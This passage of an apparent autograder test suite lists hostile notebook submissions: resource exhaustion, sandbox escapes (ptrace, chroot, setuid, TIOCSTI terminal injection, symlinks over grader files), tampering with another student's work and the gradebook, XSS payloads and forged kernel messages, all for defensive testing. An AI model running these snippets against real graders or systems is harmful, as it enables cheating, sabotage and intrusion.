    "resources", "closed_descriptors", "Closes every file descriptor while it is tested.",
    "def scale(x, factor):\n    import os\n\n    os.closerange(3, 10_000)\n    return x - factor",
    answer="inside",
)  # fmt: skip
code(
    "resources", "parser_bomb", "Hands in an expression too deep to be parsed.",
    "-" * 100_000 + "1",
)  # fmt: skip
code(
    "resources", "swallowed_interrupt", "Swallows every interrupt.",
    """
import time

end = time.monotonic() + 100
while time.monotonic() < end:
    try:
        time.sleep(1)
    except KeyboardInterrupt:
        pass
""",
)  # fmt: skip
code(
    "resources", "stopped", "Stops its own process.",
    """
import os
import signal
import time

kernel = os.getpid()
if os.fork() == 0:
    time.sleep(90)
    os.kill(kernel, signal.SIGCONT)
    os._exit(0)
os.kill(kernel, signal.SIGSTOP)
""",
)  # fmt: skip
code(
    "resources", "recursion", "Overflows the stack.",
    """
import sys

sys.setrecursionlimit(10**9)


class Deep:
    def __repr__(self):
        return repr(self)


repr(Deep())
""",
)  # fmt: skip

# --- escape: reach what lies outside the kernel ------------------------------------------------

_SEND = """
import socket

try:
    with socket.socket(socket.{family}, socket.{kind}) as connection:
        connection.settimeout(2)
        connection.connect({address!r})
        connection.send(b"{name}")
except OSError as error:
    print(error)
"""
for _name, _goal, _family, _kind, _address in [
    ("tcp", "Opens a network connection.", "AF_INET", "SOCK_STREAM", ("127.0.0.1", PORT)),
    ("udp", "Sends a datagram, as name look-ups do.", "AF_INET", "SOCK_DGRAM", ("127.0.0.1", PORT)),
    ("unix_socket", "Connects to a service's socket in /tmp.", "AF_UNIX", "SOCK_STREAM", SOCKET),
    ("abstract_socket", "Connects to a socket without a file.", "AF_UNIX", "SOCK_STREAM", ABSTRACT),
]:
    code(
        "escape", _name, _goal,
        _SEND.format(family=_family, kind=_kind, address=_address, name=_name),
    )  # fmt: skip
code(
    "escape", "kill_parent", "Ends the process that started it.",
    "import os\nimport signal\n\nif os.getppid() > 1:\n    os.kill(os.getppid(), signal.SIGTERM)",
)  # fmt: skip
code(
    "escape", "trace_parent", "Attaches to its parent process as a debugger.",
    """
import ctypes
import os

libc = ctypes.CDLL(None)
if os.getppid() > 1 and libc.ptrace(16, os.getppid(), 0, 0) == 0:  # PTRACE_ATTACH
    os.waitpid(os.getppid(), 0x40000000)  # __WALL
    libc.ptrace(17, os.getppid(), 0, 0)  # PTRACE_DETACH
    open("CANARY", "w").close()
""",
)  # fmt: skip
code(
    "escape", "symlink", "Writes through a link that leads out of its folder.",
    """
import os

try:
    os.symlink("CANARY", "results.txt")
    with open("results.txt", "w") as file:
        file.write("outside")
except OSError as error:
    print(error)
""",
)  # fmt: skip
code(
    "escape", "symlink_for_grader", "Puts links in place of the files that the grader writes.",
    """
import os
from pathlib import Path

for path in Path.cwd().glob("*.ipynb"):
    path.unlink()
for name in ("target.ipynb", "report.html", "results.json"):
    try:
        os.symlink("CANARY", name)
    except OSError as error:
        print(error)
""",
)  # fmt: skip
_CHILD = """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if (child := os.fork()) == 0:
    try:
{body}
    except OSError:
        pass
    os._exit(0)
os.waitpid(child, 0)
"""
for _name, _goal, _lines in [
    (
        "chroot",
        "Leaves a changed root by changing it again.",
        """
        os.makedirs("inner", exist_ok=True)
        os.chroot("inner")
        for _ in range(50):
            os.chdir("..")
        os.chroot(".")
        open("CANARY", "w").close()""",
    ),
    (
        "setuid",
        "Becomes the administrator.",
        """
        os.setuid(0)
        open("CANARY", "w").close()
        os.chown("CANARY", 0, 0)""",
    ),
    (
        "mount",
        "Mounts a file system over its folder.",
        """
        os.makedirs("mounted", exist_ok=True)
        if libc.mount(b"tmpfs", b"mounted", b"tmpfs", 0, None) == 0:
            libc.umount2(b"mounted", 2)
            open("CANARY", "w").close()""",
    ),
    (
        "user_namespace",
        "Opens a user namespace, in which it is the administrator.",
        """
        if libc.unshare(0x10000000 | 0x20000) == 0:  # CLONE_NEWUSER, CLONE_NEWNS
            open("CANARY", "w").close()""",
    ),
    (
        "terminal_input",
        "Types into the terminal of whoever runs the grader.",
        """
        import fcntl
        terminal = os.open("/dev/tty", os.O_RDWR)
        fcntl.ioctl(terminal, 0x5412, b" ")  # TIOCSTI
        open("CANARY", "w").close()""",
    ),
]:
    code("escape", _name, _goal, _CHILD.format(body=_lines.strip("\n")))
code(
    "escape", "daemon", "Leaves a process that lives on when its kernel has ended.",
    """
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(2)
        open("CANARY", "w").close()
        time.sleep(60)
    os._exit(0)
""",
)  # fmt: skip
code(
    "escape", "background_thread", "A thread works on when its cell has ended.",
    """
import threading
import time


def work():
    end = time.monotonic() + 60
    while time.monotonic() < end:
        open("CANARY", "w").close()
        print("still here")
        time.sleep(0.05)


threading.Thread(target=work, daemon=True).start()
""", right=True,
)  # fmt: skip
code(
    "escape", "side_channel", "Leaves a message that a later submission reads.",
    """
LEAK_TOOLS
import ctypes
from pathlib import Path

for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        message = Path(folder, "autograder-canary-side_channel")
        read(message)
        message.write_text("PRIVATE" + "_channel")
    except OSError:
        pass
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
shared = libc.shmget(0x7F3A9, 64, 0o1600)  # IPC_CREAT
if shared >= 0:
    place = libc.shmat(shared, None, 0)
    if place not in (None, 2**64 - 1):
        leak("System V memory", ctypes.string_at(place, 64).decode(errors="replace"))
        ctypes.memmove(place, ("PRIVATE" + "_channel").encode(), 15)
""", twice=True,
)  # fmt: skip
code(
    "escape", "overwrite_neighbour", "Overwrites what another student handed in.",
    """
for folder in [p for p in __import__("pathlib").Path.cwd().parents if len(p.parts) > 2]:
    for path in folder.glob("submitted/zoe/ch00_target/target.ipynb"):
        try:
            path.write_text("{}")
        except OSError as error:
            print(error)
""",
)  # fmt: skip
code(
    "escape", "gradebook_update", "Raises every mark in the gradebook.",
    """
import sqlite3

for folder in [p for p in __import__("pathlib").Path.cwd().parents if len(p.parts) > 2]:
    if (folder / "source" / "ch00_target").exists():
        try:
            with sqlite3.connect(folder / "gradebook.db", timeout=3) as database:
                database.execute("UPDATE grade SET extra_credit = 90")
        except sqlite3.Error as error:
            print(error)
""",
)  # fmt: skip

# --- feedback: reach whoever reads the report --------------------------------------------------

for _name, _goal, _mime, _text in [
    ("script", "Displays a script.", "text/html", "<script>steal_cookie()</script>"),
    ("onerror", "Displays an image that runs a script.", "text/html",
     '<img onerror="steal_cookie()" src="x"/>'),
    ("iframe", "Displays another page.", "text/html",
     '<iframe src="javascript:steal_cookie()"></iframe>'),
    ("svg", "Displays a drawing with a script.", "image/svg+xml",
     '<svg onload="steal_cookie()" xmlns="http://www.w3.org/2000/svg"></svg>'),
    ("javascript", "Displays a script by its own type.", "application/javascript",
     "steal_cookie(1)"),
    ("markdown_output", "Displays Markdown with a script.", "text/markdown",
     "<script>steal_cookie()</script>"),
]:  # fmt: skip
    code(
        "feedback", _name, _goal,
        f"from IPython.display import display\n\nmime = {_mime!r}\n"
        # Put together here, so that the source, which reports may show, has no such text.
        f"display({{mime: {_text.replace('steal', 'st~eal')!r}.replace('~', '')}}, raw=True)",
        right=True, unsafe=_text.split(" src=\"x")[0],
    )  # fmt: skip
code(
    "feedback", "terminal_output", "Prints sequences that steer a terminal.",
    "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[1;1H5 of 5 points')",
    right=True, unsafe="\x1b]0;owned",
)  # fmt: skip
code(
    "feedback", "terminal_error", "Raises an error whose message steers a terminal.",
    "def scale(x, factor):\n    raise ValueError('\\x1b]0;owned\\x07\\x1b[2J')",
    answer="inside", unsafe="\x1b]0;owned",
)  # fmt: skip
code(
    "feedback", "html_error", "Raises an error whose name and message are HTML.",
    """
def scale(x, factor):
    script = "<script>st" + "eal_cookie()</script>"
    raise type(script, (Exception,), {})(script)
""", answer="inside", unsafe="<script>steal_cookie()",
)  # fmt: skip
code(
    "feedback", "html_print", "Prints HTML while it is tested.",
    "def scale(x, factor):\n    print('<script>st' + 'eal_cookie()</script>')\n"
    "    return x * factor",
    right=True, answer="inside", unsafe="<script>steal_cookie()",
)  # fmt: skip
code(
    "feedback", "surrogates", "Prints half a character.",
    "print('half \\ud800 of a character')", right=True, unsafe="\ud800",
)  # fmt: skip
code(
    "feedback", "raw_bytes", "Writes bytes that are no text, and NULs.",
    "import os\n\nos.write(1, b'\\xff\\xfe\\x00')\nos.write(2, b'\\xff\\xfe\\x00')\n"
    "print('a NUL \\x00 in text')",
    right=True, unsafe="\x00",
)  # fmt: skip


def _script_in_text(notebook: NotebookNode) -> None:
    text = "<script>steal_cookie()</script> [x](javascript:steal_cookie())"
    notebook.cells.append(nbformat.v4.new_markdown_cell(text))


edited("feedback", "markdown_cell", "Adds a text cell with a script.", _script_in_text,
       right=True, unsafe="<script>steal_cookie()")  # fmt: skip


# ---------------------------------------------------------------- found by attacking this grader

_SEND = """
kernel = get_ipython().kernel
parent, session = kernel.get_parent("shell"), kernel.session


def send(kind, content):
    session.send(kernel.iopub_socket, kind, content, parent=parent)

"""
for _name, _goal, _text in [
    ("malformed_stream", "Sends output without text.", 'send("stream", {})'),
    ("malformed_display", "Displays what is no bundle.",
     'send("display_data", {"data": 5, "metadata": []})'),
    ("malformed_status", "Sends a status that is none.", 'send("status", {})'),
    ("malformed_error", "Sends an error of numbers.",
     'send("error", {"ename": 5, "evalue": None, "traceback": 7})'),
    ("comm_flood", "Sends messages for widgets that the grader might keep.",
     'for number in range(300):\n    send("comm_open", {"comm_id": str(number), "target_name":'
     ' "jupyter.widget", "data": {"state": {"x": "y" * 10**6}}})'),
    ("changed_display", "Changes a small output into one of fifty megabytes.",
     'from IPython.display import display\n\ndisplay("a", display_id="q")\n'
     'send("update_display_data", {"data": {"text/plain": "B" * 50_000_000}, "metadata": {},'
     ' "transient": {"display_id": "q"}})'),
]:  # fmt: skip
    code("forgery", _name, _goal, _SEND + _text, right=_name in ("comm_flood", "changed_display"))
code(
    "forgery", "bad_signature", "Signs a message with another key.",
    _SEND + 'session.key = b"wrong"\nsend("stream", {"name": "stdout", "text": "x"})',
)  # fmt: skip
code(
    "forgery", "bad_frames", "Sends frames that are no message.",
    _SEND + 'kernel.iopub_socket.send_multipart([b"x", b"y"])', right=False,
)  # fmt: skip
code(
    "resources", "shared_anonymous", "Fills shared memory that no file and no process counts.",
    """
import mmap

try:
    held = mmap.mmap(-1, 2**30)
    for start in range(0, 2**30, 2**26):
        held[start : start + 2**26] = bytes(2**26)
        held.madvise(mmap.MADV_DONTNEED, start, 2**26)
    raise SystemExit("CANARY")
except OSError:
    pass
""", right=True,
)  # fmt: skip
code(
    "resources", "many_sockets", "Makes twenty thousand sockets where the grader listens.",
    """
import os
import socket
import sys

here = os.getcwd()
os.chdir(os.path.dirname(next(text for text in sys.argv if text.endswith(".json"))))
for number in range(20_000):
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(f"socket{number}")
os.chdir(here)
""",
)  # fmt: skip
code(
    "resources", "huge_message", "Sends one message of two hundred megabytes.",
    _SEND + 'send("stream", {"name": "stdout", "text": "x" * 200_000_000})',
)  # fmt: skip
code(
    "escape", "wide_vsock", "Asks for a socket to the host, with bits that filters overlook.",
    """
import ctypes

libc = ctypes.CDLL(None)
for family in (40, 40 | 1 << 32):
    call = [ctypes.c_ulong(value) for value in (41, family, 1, 0)]
    if libc.syscall(*call) >= 0:
        print("LEAK: PRIVATE_channel to the host")
""",
)  # fmt: skip


def _deep_text(notebook: NotebookNode) -> None:
    notebook.cells.append(nbformat.v4.new_markdown_cell("<ul><li>" * 20_000))


def _link(notebook: NotebookNode) -> None:
    notebook.cells.append(nbformat.v4.new_markdown_cell("[mark](javascript:steal_cookie(1))"))


edited("feedback", "deep_text", "Adds a text cell that takes a sanitiser hours.", _deep_text,
       right=True)  # fmt: skip
edited("feedback", "script_link", "Adds a link to a script.", _link,
       right=True, unsafe='href="javascript:')  # fmt: skip
